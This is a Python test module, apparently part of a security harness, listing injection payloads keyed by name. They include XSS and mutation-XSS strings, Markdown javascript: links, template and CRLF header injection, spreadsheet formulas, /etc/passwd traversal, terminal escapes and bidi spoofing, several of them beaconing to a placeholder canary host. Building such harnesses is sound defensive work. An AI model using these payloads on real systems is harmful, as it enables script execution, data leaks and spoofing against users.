"""Texts that attack whoever shows them: each carries a mark of its own, so that a hit says where it came from.

Rules of this room
  1. `{mark}` is what the text tells when it runs: `window.__pwned('…')`, or a request for `{canary}/…`.
  2. An attack is a whole value of a log; nothing here relies on another one.
"""

from __future__ import annotations

SCRIPTS = {
    "script": "<script>__pwned('{mark}')</script>",
    "script-from-elsewhere": '<script src="{canary}/{mark}"></script>',
    "script-end": "</script><script>__pwned('{mark}')</script>",
    "script-split": "<scr<script>ipt>__pwned('{mark}')</scr</script>ipt>",
    "template-end": "</template><img src=x onerror=__pwned('{mark}')>",
    "title-end": "</title><script>__pwned('{mark}')</script>",
    "textarea-end": "</textarea></pre></code><script>__pwned('{mark}')</script>",
    "comment-end": "--><img src=x onerror=__pwned('{mark}')><!--",
    "cdata-end": "]]><img src=x onerror=__pwned('{mark}')>",
    "onerror": "<img src=x onerror=\"__pwned('{mark}')\">",
    "attribute-double": '" onmouseover="__pwned(\'{mark}\')" autofocus onfocus="__pwned(\'{mark}\')" x="',
    "attribute-single": "' onmouseover='__pwned(`{mark}`)' autofocus onfocus='__pwned(`{mark}`)' x='",
    "attribute-bare": " onpointerenter=__pwned('{mark}') tabindex=0 ",
    "svg": "<svg onload=__pwned('{mark}')><script>__pwned('{mark}')</script></svg>",
    "math": "<math><mi//xlink:href=\"data:x,<script>__pwned('{mark}')</script>\">",
    "mutation": "<noscript><p title=\"</noscript><img src=x onerror=__pwned('{mark}')>\">",
    "mutation-in-math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__pwned('{mark}')&gt;\">",
    "mutation-in-svg": "<svg></p><style><a id=\"</style><img src=1 onerror=__pwned('{mark}')>\">",
    "mutation-in-forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned('{mark}')>",
    "clobbering": "<a id=rows name=rows>{mark}</a><form id=q name=getElementById><input name=parentNode></form>",
    "shadow-root": "<template shadowrootmode=open><script>__pwned('{mark}')</script></template>",
    "popover": "<button popovertarget=p autofocus>x</button><div popover id=p onbeforetoggle=__pwned('{mark}')>",
    "ping": '<a href="#" ping="{canary}/{mark}">x</a><img srcset="{canary}/{mark}">',
    "details": "<details open ontoggle=__pwned('{mark}')>",
    "iframe": "<iframe srcdoc=\"<script>parent.__pwned('{mark}')</script>\"></iframe>",
    "object": '<object data="{canary}/{mark}"></object><embed src="{canary}/{mark}">',
    "base": '<base href="{canary}/{mark}/">',
    "refresh": '<meta http-equiv="refresh" content="0;url={canary}/{mark}">',
    "form": '<form action="{canary}/{mark}"><button autofocus>go</button></form>',
    "style": "<style>@import '{canary}/{mark}';*{{background:url({canary}/{mark})}}</style>",
    "style-attribute": "<p style=\"background:url('{canary}/{mark}');width:expression(__pwned('{mark}'))\">x</p>",
    "stylesheet": '<link rel=stylesheet href="{canary}/{mark}"><link rel=prefetch href="{canary}/{mark}">',
    "picture-from-elsewhere": '<img src="{canary}/{mark}"><video poster="{canary}/{mark}">',
    "dialog": "<script>alert('{mark}')</script><img src=x onerror=alert('{mark}')>",
}
MARKDOWN = {
    "beacon": "![x]({canary}/{mark})",
    "beacon-by-name": "![x][{mark}]\n\n[{mark}]: {canary}/{mark}",
    "link-script": "[click](javascript:__pwned('{mark}'))",
    "link-script-hidden": "[click](java\tscript:__pwned%28'{mark}'%29) <javascript:__pwned('{mark}')>",
    "link-script-entity": "[click](&#x6a;avascript:__pwned('{mark}'))",
    "link-data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{mark})",
    "link-vbscript": "[click](vbscript:__pwned('{mark}'))",
    "link-file": "[click](file:///etc/passwd#{mark})",
    "link-title": "[click](https://example.org \"x' onmouseover='__pwned(`{mark}`)\")",
    "autolink": "{canary}/{mark} <{canary}/{mark}>",
    "html-in-table": "| a | b |\n|---|---|\n| <img src=x onerror=__pwned('{mark}')> | `</code><script>__pwned('{mark}')</script>` |",
    "fence-language": "```\"><script>__pwned('{mark}')</script>\n</code></pre><script>__pwned('{mark}')</script>\n```",
    "fence-open": "~~~~html {mark}\n<script>__pwned('{mark}')</script>",
    "deep-quotes": ">" * 300 + " {mark}",
    "deep-lists": "\n".join(f"{'  ' * n}- {{mark}}" for n in range(60)),
    "many-stars": "*" * 3_000 + "{mark}" + "_" * 3_000,
    "many-brackets": "[" * 2_000 + "{mark}" + "](" * 400,
}
WORDS = {
    "jinja": "{{{{7*100003}}}} {{% raw %}}{{{{ self.__init__ }}}} {mark}",
    "javascript-template": "${{__pwned('{mark}')}} `${{__pwned('{mark}')}}`",
    "json-end": '"}}]}};__pwned("{mark}");//',
    "separators": "a\u2028__pwned('{mark}')\u2029b\x85c",
    "nul": "a\x00<script\x00>__pwned('{mark}')</script>",
    "controls": "\x01\x02\x08\x0b\x0c\x1f\x7f\x9b31m{mark}",
    "terminal": "\x1b[31mred\x1b[0m\x1b]8;;{canary}/{mark}\x1b\\link\x1b]8;;\x1b\\\x1b]0;{mark}\x07\x1b[2J",
    "bidi": "\u202e{mark}gnp.exe\u202c \u2066\u2067{mark}\u2069 \u200f\u061c",
    "invisible": "\u200b\u200c\u200d\ufeff\u00ad{mark}\U000e0041",
    "surrogate": "\ud800{mark}\udfff",
    "combining": "z" + "\u0336\u0489\u20dd" * 200 + "{mark}",
    "long-word": "W" * 5_000 + "{mark}",
    "long-lines": "{mark}\n" * 2_000,
    "traversal": "../../../../../../etc/passwd\x00{mark}",
    "traversal-encoded": "..%2f..%2f..%252f..%5c{mark}",
    "address": "//{mark}.example.invalid/%2e%2e/?a=b&c=d#e",
    "address-script": "javascript:__pwned('{mark}')//",
    "formula": "=HYPERLINK(\"{canary}/{mark}\",\"x\")",
    "headers": "x\r\nSet-Cookie: owned={mark}\r\n\r\n<script>__pwned('{mark}')</script>",
    "event-stream": "x\n\nevent: board\ndata: {{\"{mark}\":1}}\n\n",
    "entities": "&lt;script&gt;__pwned('{mark}')&lt;/script&gt; &#60;img src=x onerror=__pwned('{mark}')&#62;",
    "prototype": "__proto__",
    "constructor": "constructor",
    "number": "1e999",
    "negative": "-0",
    "empty": "",
    "spaces": " \t\n ",
}  # fmt: skip
ATTACKS = SCRIPTS | MARKDOWN | WORDS


def armed(name: str, *, mark: str, canary: str) -> str:
    """The attack with its mark and the address it is to call."""
    return ATTACKS[name].format(mark=mark, canary=canary)
